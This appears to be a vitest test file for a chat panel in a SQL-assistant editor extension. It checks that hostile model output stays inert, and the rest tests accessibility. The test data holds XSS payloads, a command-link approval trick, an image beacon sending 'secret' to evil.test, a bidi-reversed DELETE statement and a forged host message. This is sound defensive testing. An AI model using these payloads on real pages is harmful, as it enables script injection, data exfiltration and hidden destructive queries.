import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { answered, ask, chatting, input, kinds } from './harness/chatTalk.ts';
import { contactsDraft, demo, revenueDraft } from './harness/samples.ts';
import { themeNames } from './harness/theme.ts';
import { startWorkbench, type Workbench, wordsOf } from './harness/workbench.ts';

let workbench: Workbench;
beforeAll(async () => {
  workbench = await startWorkbench();
});
afterAll(() => workbench.close());

describe('an attack by the model', () => {
  const evil = [
    '<img src=x onerror=alert(1)>',
    '<script>alert(2)</script>',
    '<svg onload=alert(3)>',
    '[click](command:countersign.approve)',
    '[click](javascript:alert(4))',
    '![beacon](https://evil.test/a.png?q=secret)',
    '<iframe src="https://evil.test"></iframe>',
    'vscode://countersign/run',
    '<style>*{display:none}</style>',
  ].join('\n\n');

  it('answers with HTML, scripts, links and images: all of it stays text', async () => {
    const panel = await chatting(workbench);
    const turnId = await ask(panel, evil.replaceAll('\n', ' '));
    await panel.send({ kind: 'text', turnId, piece: evil });
    await panel.send(
      {
        kind: 'draft',
        turnId,
        draft: {
          ...revenueDraft,
          sql: evil,
          explanation: evil,
          interpretation: [evil],
          source: { kind: 'model', model: evil },
          findings: [{ rule: evil, severity: 'error', message: evil, remedy: evil }],
          effect: 'deny',
          reasons: [evil],
          agreement: { words: evil, alternatives: [{ words: evil, sql: evil }] },
        },
      },
      { kind: 'ended', turnId, how: 'failed', message: evil, followUps: [evil] },
      { kind: 'context', context: { connection: { ...demo, name: evil }, model: evil } },
    );
    expect(await panel.page.locator('#panel :is(a, img, script, iframe, style, svg[onload])').count()).toBe(0);
    expect(await wordsOf(panel.page.locator('.prose'))).toContain('[click](command:countersign.approve)');
    expect(panel.alarms).toEqual([]);
    expect(await kinds(panel)).toEqual(['ask']);
    await panel.close();
  });

  it('hides what the SQL does by characters that turn it around: they are shown', async () => {
    const panel = await chatting(workbench);
    const turnId = await ask(panel, 'x');
    const sql = 'SELECT 1 /*\u202e ;sremotsuc MORF ETELED \u2066*/';
    await panel.send(
      { kind: 'text', turnId, piece: 'safe \u202egnihton' },
      { kind: 'draft', turnId, draft: { ...revenueDraft, sql, explanation: 'safe \u202egnihton' } },
    );
    expect(await wordsOf(panel.page.locator('.block .sql-code'))).toBe(
      'SELECT 1 /*⟨U+202E⟩ ;sremotsuc MORF ETELED ⟨U+2066⟩*/',
    );
    expect(await wordsOf(panel.page.locator('.prose'))).toBe('safe ⟨U+202E⟩gnihton');
    await panel.close();
  });

  it('answers without end: the page stays usable and says that it cut', async () => {
    const panel = await chatting(workbench);
    const turnId = await ask(panel, 'x');
    for (let piece = 0; piece < 10; piece += 1)
      await panel.send({ kind: 'text', turnId, piece: `${'word '.repeat(10)}\n\n`.repeat(800) });
    await panel.page.locator('.prose-cut').waitFor();
    expect(await wordsOf(panel.page.locator('.prose-cut'))).toBe('The rest of this answer is too long to show.');
    await input(panel).fill('still here');
    expect(await input(panel).inputValue()).toBe('still here');
    await panel.close();
  });

  it('pretends to be the host: text that looks like a message is text', async () => {
    const panel = await chatting(workbench);
    const turnId = await ask(panel, 'x');
    await panel.send({
      kind: 'text',
      turnId,
      piece: JSON.stringify({ kind: 'run', blockId: 'b', sql: 'DELETE FROM customers' }),
    });
    await panel.send(
      'run',
      null,
      5,
      { no: 'kind' },
      { kind: 'run', blockId: 'b', sql: 'x' },
      { kind: 'text', turnId: 'other', piece: 'y' },
    );
    expect(await kinds(panel)).toEqual(['ask']);
    expect(panel.alarms).toEqual([]);
    await panel.close();
  });
});

describe('the chat, for everyone', () => {
  it.each(themeNames)('is readable in %s in a narrow side bar', async (theme) => {
    const panel = await chatting(workbench, { theme, height: 1_400 });
    expect(await panel.accessibilityProblems()).toEqual([]);
    await panel.screenshot(`chat-empty-${theme}`);
    await answered(panel);
    expect(await panel.accessibilityProblems()).toEqual([]);
    expect(await panel.page.evaluate(() => document.documentElement.scrollWidth)).toBe(320);
    await panel.screenshot(`chat-${theme}`);
    const turnId = await ask(panel, 'Which customers in the EU paid us most?');
    await panel.send({ kind: 'text', turnId, piece: 'Looking at the payments' });
    await panel.screenshot(`chat-writing-${theme}`);
    await panel.send(
      { kind: 'draft', turnId, draft: contactsDraft },
      { kind: 'ended', turnId, how: 'answered', followUps: [] },
      { kind: 'runState', blockId: 'block-2', state: 'waiting' },
    );
    await panel.page.getByText('2 of 3 drafts agree').click();
    expect(await panel.accessibilityProblems()).toEqual([]);
    await panel.screenshot(`chat-findings-${theme}`);
    expect(panel.alarms).toEqual([]);
    await panel.close();
  });

  it('is a log whose parts are named', async () => {
    const panel = await chatting(workbench);
    await answered(panel);
    const log = panel.page.getByRole('log', { name: 'Conversation' });
    expect(await log.getAttribute('aria-live')).toBe('polite');
    expect(await log.getByRole('heading', { level: 3 }).allInnerTexts()).toEqual(['You', 'Countersign']);
    expect(await wordsOf(panel.page.locator('body > [role=status]'))).toContain('36 rows in 84 ms');
    await panel.close();
  });
});
